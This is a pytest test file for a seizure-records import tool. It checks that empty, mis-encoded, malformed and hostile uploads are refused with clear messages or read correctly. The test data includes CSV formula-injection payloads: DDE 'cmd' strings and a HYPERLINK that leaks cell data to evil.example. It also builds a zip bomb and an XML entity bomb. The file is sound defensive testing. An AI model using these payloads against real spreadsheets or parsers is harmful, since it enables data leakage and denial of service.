"""Hostile and unusual files: each gets a clear message (or is read correctly) and a refusal writes nothing."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from import_files import HEADER, csv_bytes, errors_at, fingerprint, row, valid_rows
from seizures import ingest, schema, spreadsheet, upload

TODAY = dt.date(2024, 6, 30)
INJECTIONS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
              '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "\t=1+1"]


def run_import(engine, data, name="hostile.csv", **kwargs) -> ingest.ImportResult:
    return ingest.import_file(engine, data, name, today=TODAY, user="tester", **kwargs)


def refused(engine, data, message: str, name="hostile.csv", **kwargs) -> ingest.ImportResult:
    """The whole file is refused with a message containing `message`, and nothing is written."""
    before = fingerprint(engine)
    result = run_import(engine, data, name, **kwargs)
    assert result.status == "rejected"
    assert result.file_error and message in result.file_error, result.file_error
    assert message in result.summary()
    assert fingerprint(engine) == before
    return result


def stored(engine, import_id: int, column: str) -> list:
    s = schema.seizures
    with engine.connect() as conn:
        return conn.execute(sa.select(s.c[column]).where(s.c.import_id == import_id).order_by(s.c.id)).scalars().all()


def xlsx_bytes(rows: list[list], sheet_title: str = "records") -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = sheet_title
    for values in rows:
        book.active.append(values)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- empty and near-empty -------------------------------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"\n\n  \r\n", b"\xef\xbb\xbf", b" \r\n" * 3000])
def test_an_empty_file(any_demo_copy_engine, data):
    refused(any_demo_copy_engine, data, "the file is empty")


@pytest.mark.parametrize("data", [",".join(HEADER).encode(), (",".join(HEADER) + "\r\n\r\n").encode()])
def test_a_header_without_rows(any_demo_copy_engine, data):
    refused(any_demo_copy_engine, data, "column names but no rows")


def test_a_workbook_with_a_header_only_or_nothing(any_demo_copy_engine):
    refused(any_demo_copy_engine, xlsx_bytes([HEADER]), "column names but no rows", "h.xlsx")
    refused(any_demo_copy_engine, xlsx_bytes([]), "is empty", "e.xlsx")


def test_a_text_file_that_is_not_a_records_file(any_demo_copy_engine):
    refused(any_demo_copy_engine, b"Dear colleagues,\nplease find the figures attached.\n",
            "none of the expected column names")


# --- encodings and dialects ---------------------------------------------------------------------------------


def test_windows_1250_is_detected_and_converted(any_demo_copy_engine):
    data = csv_bytes([row(region="Đakovica", municipality="Gjakovë", case_ref="Č-1")], encoding="cp1250")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    result = run_import(any_demo_copy_engine, data)
    assert result.status == "imported", result.errors
    assert any("Windows-1250" in note for note in result.notes)
    assert stored(any_demo_copy_engine, result.import_id, "region_code") == ["GJ"]
    assert stored(any_demo_copy_engine, result.import_id, "municipality") == ["Gjakovë"]
    assert stored(any_demo_copy_engine, result.import_id, "case_ref") == ["Č-1"]


def test_windows_1252_albanian_letters_are_read(any_demo_copy_engine):
    data = csv_bytes([row(region="Ferizaj", municipality="Kaçanik", case_ref="FE-ë")], encoding="cp1252")
    result = run_import(any_demo_copy_engine, data)
    assert result.status == "imported", result.errors
    assert any("not UTF-8" in note and "Windows-1252" in note for note in result.notes)
    assert stored(any_demo_copy_engine, result.import_id, "municipality") == ["Kaçanik"]
    assert stored(any_demo_copy_engine, result.import_id, "case_ref") == ["FE-ë"]


def test_bytes_that_are_no_known_encoding(any_demo_copy_engine):
    data = csv_bytes([row()]) + b"2023-01-01,PZ,,firearm,pistol,1,pieces,house_search,\x81\x81\n"
    refused(any_demo_copy_engine, data, 'save it as "CSV UTF-8"')


@pytest.mark.parametrize("variant", ["bom", "crlf", "semicolon", "tab", "utf16"])
def test_common_csv_dialects_are_read(any_demo_copy_engine, variant):
    rows = valid_rows(3)
    data = {
        "bom": b"\xef\xbb\xbf" + csv_bytes(rows),
        "crlf": csv_bytes(rows, line_end="\r\n"),
        "semicolon": csv_bytes(rows, delimiter=";"),
        "tab": csv_bytes(rows, delimiter="\t"),
        "utf16": csv_bytes(rows, delimiter="\t").decode().encode("utf-16"),
    }[variant]
    result = run_import(any_demo_copy_engine, data)
    assert result.status == "imported", (result.file_error, result.errors)
    assert stored(any_demo_copy_engine, result.import_id, "case_ref") == ["T-1", "T-2", "T-3"]


def _read_as(data: bytes, monkeypatch, start_early: bool):
    """What read_upload makes of a file: its header, notes and rows, or its error."""
    if not start_early:
        monkeypatch.setattr(upload, "_utf8_start", lambda _data: None)
    try:
        with upload.read_upload(data, 10, ingest._check_known_columns) as raw:
            rows = raw.con.execute("SELECT * FROM raw ORDER BY row").fetchall()
            return raw.header, raw.notes, rows, raw.content_hash
    except upload.UploadError as exc:
        return str(exc)
    finally:
        monkeypatch.undo()


BODY = [row(region="Đakovica", municipality="Gjakovë", case_ref=f"Č-{i}") for i in range(40)]
ASCII_START = csv_bytes(valid_rows(5))
LEGACY_REST = csv_bytes(BODY, encoding="cp1250").split(b"\n", 1)[1]
BROKEN_LINE = b"2023-01-01,PZ,,firearm,pistol,1,pieces,x,T-9,extra\n"
UTF8_HEADER = csv_bytes([], [*HEADER[:-1], "količina"])
EARLY_UTF8 = {  # files whose start is UTF-8 (the header, and more), whatever the rest is
    "utf-8": csv_bytes(BODY),
    "bom": b"\xef\xbb\xbf" + csv_bytes(BODY),
    "two boms": "\ufeff\ufeff".encode() + csv_bytes(BODY),
    "windows-1250 later": ASCII_START + LEGACY_REST,
    "windows-1252 later": ASCII_START + csv_bytes([row(municipality="Kaçanik")] * 9, encoding="cp1252").split(b"\n", 1)[1],
    "utf-8 header, windows-1250 later": UTF8_HEADER + ASCII_START.split(b"\n", 1)[1] + LEGACY_REST,
    "utf-8 and windows-1250": csv_bytes(BODY) + LEGACY_REST,
    # Not UTF-8 for Python (a UTF-16 surrogate, an overlong form) though a lenient reader might take it.
    "surrogate later": ASCII_START + b"2023-01-01,PZ,,firearm,pistol,1,pieces,house_search,T-\xed\xa0\x80\n",
    "overlong later": ASCII_START + b"2023-01-01,PZ,,firearm,pistol,1,pieces,house_search,T-\xc1\xbf\n",
    "no encoding later": csv_bytes(BODY) + b"2023-01-01,PZ,,firearm,pistol,1,pieces,house_search,\x81\x81\n",
    "no known column": csv_bytes(BODY, ["količina", *(f"x{i}" for i in range(8))]),
    "no known column, windows-1250 later": csv_bytes([], ["količina", *(f"x{i}" for i in range(8))])
    + ASCII_START.split(b"\n", 1)[1] + LEGACY_REST,
    "broken line, windows-1250 later": ASCII_START + BROKEN_LINE + LEGACY_REST,
    "broken line": csv_bytes(BODY[:3]) + BROKEN_LINE + csv_bytes(BODY),
    "windows-1250": csv_bytes(BODY, encoding="cp1250"),
}
OUTCOME = {  # (a part of) the error, or the note, each case must give
    "utf-8": None, "bom": None, "two boms": None,
    "windows-1250 later": "read as Windows-1250", "windows-1252 later": "Windows-1252",
    "utf-8 header, windows-1250 later": "read as Windows-1250",
    "utf-8 and windows-1250": 'save it as "CSV UTF-8"',
    "surrogate later": "Windows-1250", "overlong later": "Windows-1250", "no encoding later": 'save it as "CSV UTF-8"',
    "no known column": "none of the expected column names",
    "no known column, windows-1250 later": "none of the expected column names",
    "broken line, windows-1250 later": "10 values where the header has 9",
    "broken line": "10 values where the header has 9", "windows-1250": "read as Windows-1250",
}


@pytest.mark.parametrize("name", EARLY_UTF8)
@pytest.mark.parametrize("prefix", [256, 257, 258])  # the start cut inside a two-byte letter or not
def test_a_large_file_read_while_its_text_is_checked_gives_what_decoding_it_first_gives(monkeypatch, name, prefix):
    """A large file whose start is UTF-8 is read by DuckDB while the rest is checked (upload._utf8_start): the
    result is the one of decoding the whole file first (decode_text), whatever the rest turns out to be."""
    monkeypatch.setattr(upload, "UTF8_PREFIX_BYTES", prefix)
    monkeypatch.setattr(upload, "HEADER_CHARACTERS", 128)
    monkeypatch.setattr(upload, "UTF8_CHUNK_BYTES", 7)
    data = EARLY_UTF8[name]
    assert len(data) > prefix
    if name != "windows-1250":
        assert upload._utf8_start(data) is not None, "the case must take the early start"
    early = _read_as(data, monkeypatch, True)
    monkeypatch.setattr(upload, "HEADER_CHARACTERS", 128)
    assert early == _read_as(data, monkeypatch, False)
    expected = OUTCOME[name]
    if expected is None:
        assert not isinstance(early, str) and early[1] == [], early
    elif "Windows" in expected:
        assert not isinstance(early, str) and expected in early[1][0], early
    else:
        assert isinstance(early, str) and expected in early, early


def test_a_file_read_early_is_read_again_when_its_rest_is_not_utf8(monkeypatch):
    """Should DuckDB take bytes that Python's check refuses, the table it read is dropped and the file read again."""
    data = EARLY_UTF8["utf-8"]
    expected = _read_as(data, monkeypatch, False)
    real = upload._utf8_start
    checks = []
    monkeypatch.setattr(upload, "UTF8_PREFIX_BYTES", 256)
    monkeypatch.setattr(upload, "HEADER_CHARACTERS", 128)
    monkeypatch.setattr(upload, "_utf8_start", lambda d: (real(d)[0], lambda: checks.append(1) or False))
    monkeypatch.setattr(upload, "decode_text", lambda d: (d.decode(), "utf-8", ["read again"]))
    with upload.read_upload(data, 10, ingest._check_known_columns) as raw:
        got = raw.header, raw.notes, raw.con.execute("SELECT * FROM raw ORDER BY row").fetchall(), raw.content_hash
    assert checks and got == (expected[0], ["read again"], *expected[2:])


@pytest.mark.parametrize("tail, message", [
    (b"2023-01-01,PZ,,firearm,pistol,1,pieces,house_search,T-9,extra\n", "line 3: 10 values where the header has 9"),
    (b'2023-01-01,PZ,,firearm,pistol,1,pieces,house_search,"T-9\n', "unterminated quote"),
])
def test_a_broken_csv_names_the_line(any_demo_copy_engine, tail, message):
    refused(any_demo_copy_engine, csv_bytes([row()]) + tail, message)


# --- injection and formulas -----------------------------------------------------------------------------------


def test_csv_injection_payloads_are_stored_as_plain_text(any_demo_copy_engine):
    header = [*HEADER, "source"]
    rows = [row(case_ref=f"INJ-{i}", source=payload) for i, payload in enumerate(INJECTIONS)]
    rows.append(row(case_ref=INJECTIONS[0]))
    result = run_import(any_demo_copy_engine, csv_bytes(rows, header))
    assert result.status == "imported", result.errors
    assert stored(any_demo_copy_engine, result.import_id, "source")[: len(INJECTIONS)] == [
        p.strip() for p in INJECTIONS  # cells are trimmed of surrounding whitespace, nothing else
    ]
    assert stored(any_demo_copy_engine, result.import_id, "case_ref")[-1] == INJECTIONS[0]


def test_the_problems_download_defuses_formulas(any_demo_copy_engine):
    result = run_import(any_demo_copy_engine, csv_bytes([row(context="=cmd|' /C calc'!A0")]))
    assert errors_at(result) == {(2, "context")}
    safe = spreadsheet.defused(result.errors)
    assert safe.loc[0, "value"] == "'=cmd|' /C calc'!A0"
    assert result.errors.loc[0, "value"] == "=cmd|' /C calc'!A0"  # the table shown keeps the value as it was


def test_formulas_in_workbook_cells_are_refused_at_their_cell(any_demo_copy_engine):
    header = [*HEADER, "source"]
    values = [row(case_ref=f"X-{i}") for i in range(3)]
    sheet = [header] + [[r.get(h, "") for h in header] for r in values]
    sheet[2][HEADER.index("quantity")] = "=1+1"
    sheet[3][len(HEADER)] = '=HYPERLINK("http://evil.example","x")'
    before = fingerprint(any_demo_copy_engine)
    result = run_import(any_demo_copy_engine, xlsx_bytes(sheet), "formulas.xlsx")
    assert result.status == "rejected"
    assert ((3, "quantity") in errors_at(result)) and ((4, "source") in errors_at(result))
    formula_rows = result.errors[result.errors["reason"].str.contains("formula")]
    assert set(zip(formula_rows["row"], formula_rows["column"])) == {(3, "quantity"), (4, "source")}
    assert fingerprint(any_demo_copy_engine) == before


# --- not a spreadsheet, zip bombs, size ---------------------------------------------------------------------


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(expanded_mb: int = 60) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _ in range(expanded_mb):
                member.write(b"<" * upload.MB)
    return out.getvalue()


def test_a_zip_bomb_disguised_as_xlsx(any_demo_copy_engine):
    data = zip_bomb()
    assert len(data) < upload.MB
    refused(any_demo_copy_engine, data, "possible zip bomb", "bomb.xlsx")


def test_an_xml_entity_bomb_inside_a_workbook(any_demo_copy_engine):
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADER, list(row().values())])))
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i else "&lol;" * 10}">' for i in range(9))
              + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
              '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol8;</t></is></c></row></sheetData></worksheet>')
    members = {name: good.read(name) for name in good.namelist()}
    members["xl/worksheets/sheet1.xml"] = laughs.encode()
    refused(any_demo_copy_engine, zip_bytes(members), "cannot read the workbook", "laughs.xlsx")


@pytest.mark.parametrize("data, message", [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "not a text file"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "old Excel 97-2003 (.xls)"),
    (zip_bytes({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}), "not an Excel workbook"),
    (zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
     "OpenDocument (.ods)"),
    (xlsx_bytes([HEADER])[:700], "damaged or truncated"),
    (zip_bytes({"xl/workbook.xml": b"<not-a-workbook", "[Content_Types].xml": b"<Types/>"}), "cannot read the workbook"),
])
def test_files_that_are_not_spreadsheets(any_demo_copy_engine, data, message):
    refused(any_demo_copy_engine, data, message, "upload.xlsx")


def test_a_1_gb_file_beyond_the_limit_is_refused_before_it_is_read(any_demo_copy_engine, tmp_path):
    path = tmp_path / "huge.csv"
    with path.open("wb") as f:
        f.truncate(1024**3)  # sparse: costs no disk
    before = fingerprint(any_demo_copy_engine)
    result = ingest.import_file(any_demo_copy_engine, path)
    assert "1,024.0 MB, more than the limit of 200 MB" in result.file_error
    assert fingerprint(any_demo_copy_engine) == before


def test_the_size_limit_is_configurable(any_demo_copy_engine, monkeypatch):
    data = csv_bytes(valid_rows(50))
    monkeypatch.setenv("SEIZURES_MAX_UPLOAD_MB", str(len(data) / upload.MB / 2))
    refused(any_demo_copy_engine, data, "SEIZURES_MAX_UPLOAD_MB")
    monkeypatch.setenv("SEIZURES_MAX_UPLOAD_MB", "1")
    assert run_import(any_demo_copy_engine, data).status == "imported"


def test_a_file_that_changes_while_it_is_read_is_refused(demo_copy_engine, tmp_path, monkeypatch):
    """A file on disk is read by DuckDB itself (no copy): if it changed after its hash was taken, it is refused."""
    path = tmp_path / "growing.csv"
    path.write_bytes(csv_bytes(valid_rows(3)))
    read_bytes = Path.read_bytes

    def read_then_append(self):
        data = read_bytes(self)
        if self == path:
            with open(self, "ab") as more:
                more.write(b"2023-03-05,PZ,Prizren,firearm,pistol,1,pieces,house_search,LATE-1\n")
        return data

    monkeypatch.setattr(Path, "read_bytes", read_then_append)
    refused(demo_copy_engine, path, "the file changed while it was being read", name=path.name)
